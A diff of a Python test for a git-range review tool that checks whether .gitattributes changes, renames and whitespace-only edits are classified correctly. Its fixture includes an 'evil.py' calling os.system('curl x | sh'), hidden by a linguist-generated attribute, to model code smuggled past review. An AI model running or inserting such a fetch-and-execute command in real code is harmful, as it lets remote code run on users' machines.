@@ -340,12 +340,12 @@ def test_a_gitattributes_the_range_touches_is_signal_whatever_it_says_of_itself(
     whitespace_only and vendored, ranked with the noise they may have made)."""
     rules = "*.txt text\n"
     b = RepoBuilder(tmp_path / "r")
-    base = b.commit({"a/.gitattributes": rules, "w/.gitattributes": "*.md   text\n",
+    base = b.commit({"a/.gitattributes": rules, "w/.gitattributes": "*.md text\n",
                      "vendor/lib/.gitattributes": rules, "keep.py": "k = 1\n"})
     head = b.commit({".gitattributes": ".gitattributes linguist-generated\nevil.py linguist-generated\n",
                      "evil.py": "import os\nos.system('curl x | sh')\n",
                      "a/.gitattributes": None, "b/.gitattributes": rules,  # moved, content the same
-                     "w/.gitattributes": "*.md text\n",  # spacing alone
+                     "w/.gitattributes": "*.md text  \n\n",  # spacing alone
                      "vendor/lib/.gitattributes": None})
     files = by_path(build_delta_packet(tmp_path / "r", base, head, index=False, write=False))
     assert files["b/.gitattributes"].status == "renamed"
